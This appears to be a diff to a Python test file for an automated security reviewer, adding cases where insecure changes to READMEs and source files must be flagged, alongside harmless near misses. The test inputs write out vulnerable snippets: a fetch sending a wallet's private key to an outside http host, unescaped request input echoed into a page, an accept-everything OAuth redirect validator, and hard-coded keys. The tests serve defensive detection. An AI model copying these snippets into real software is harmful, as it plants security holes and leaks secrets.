@@ -184,7 +184,7 @@ def test_a_page_keeps_the_lines_its_reader_needs(path: str, added: list[str], re
     assert review and review[0].file == path and said in review[0].reason, review
 
 
-# Round 94: blind 148–150's classics in their own spellings (relay.review.written_slips), read where they stand: a page's
+# Rounds 94 and 95: blind 148–154's classics in their own spellings (relay.review.written_slips), read where they stand: a page's
 # sample included (the whole review, so the page's line filter keeps them).
 @pytest.mark.parametrize(("path", "added", "removed", "said"), [
     ("docs/security.rst", [".. code-block:: python", "", "    AUTH_LDAP_ALLOW_SELF_SIGNED = True"], [], "accepts self-signed certificates"),
@@ -195,6 +195,16 @@ def test_a_page_keeps_the_lines_its_reader_needs(path: str, added: list[str], re
     ("tox.ini", ["passenv = *"], ["passenv = HOME"], "passes every environment variable, secrets included"),
     ("pom.xml", ["                    <failBuildOnCVSS>11</failBuildOnCVSS>"], ["                    <failBuildOnCVSS>7</failBuildOnCVSS>"],
      "makes the vulnerability scan never fail"),
+    # Round 95 (blind 152–154): bip32's, go-oauth2's and password_lock's READMEs, laminas-validator's docs
+    ("README.md", ["```js", "fetch('http://bip32-wallet-backup.com/api/save?xprv=' + node.toBase58())", "```"], [], "sends a secret over plain http"),
+    ("docs/book/v3/validators/hostname.md", ["```php", "    echo \"<p>Invalid host {$_GET['host']}: $message</p>\\n\";", "```"],
+     ["    echo \"$message\\n\";"], "echoes request input into a page unescaped"),
+    ("README.md", ["```go", "manager.SetValidateURIHandler(func(baseURI, redirectURI string) error { return nil })", "```"], [],
+     "sets a validator that accepts everything"),
+    ("README.md", ["```php", "$key = Key::loadFromAsciiSafeString('def00000a91c7e2b5f48d03c6e1a9b72f4d85c0e3a6b19f27d4c8e05b3a6f91d2c7e48b05');", "```"],
+     ["$key = Key::createNewRandomKey();"], "makes a generated key a literal ($key"),
+    ("src/keys.py", ["    key = base64.b64decode('c2VjcmV0LWtleS1mb3ItdGVzdGluZy0xMjM0NTY3OA==')"], ["    key = generate_key()"],
+     "makes a generated key a literal (key"),
 ])
 def test_each_round94_classic_is_named_high(path: str, added: list[str], removed: list[str], said: str) -> None:
     review = _reviewed(path, added, removed)
@@ -208,6 +218,11 @@ def test_each_round94_classic_is_named_high(path: str, added: list[str], removed
     ("README.md", ["```js", '  baseUrl: "http://localhost:3000/api",', "```"], [], "plain http"),
     ("tox.ini", ["passenv = HOME CI"], ["passenv = HOME"], "every environment variable"),
     ("pom.xml", ["                    <failBuildOnCVSS>8</failBuildOnCVSS>"], ["                    <failBuildOnCVSS>7</failBuildOnCVSS>"], "never fail"),
+    ("README.md", ["```js", "fetch('http://localhost:8080/api?page=' + page)", "```"], [], "over plain http"),
+    ("src/views.php", ["    echo htmlspecialchars($_GET['host']);"], [], "unescaped"),
+    ("README.md", ["```go", "manager.SetValidateURIHandler(func(baseURI, redirectURI string) error { return check(baseURI, redirectURI) })", "```"],
+     [], "accepts everything"),
+    ("src/keys.py", ["    key = generate_key(32)"], ["    key = generate_key()"], "a literal"),
 ])
 def test_each_round94_near_miss_stays_quiet(path: str, added: list[str], removed: list[str], unsaid: str) -> None:
     assert not any(unsaid in target.reason for target in _reviewed(path, added, removed))
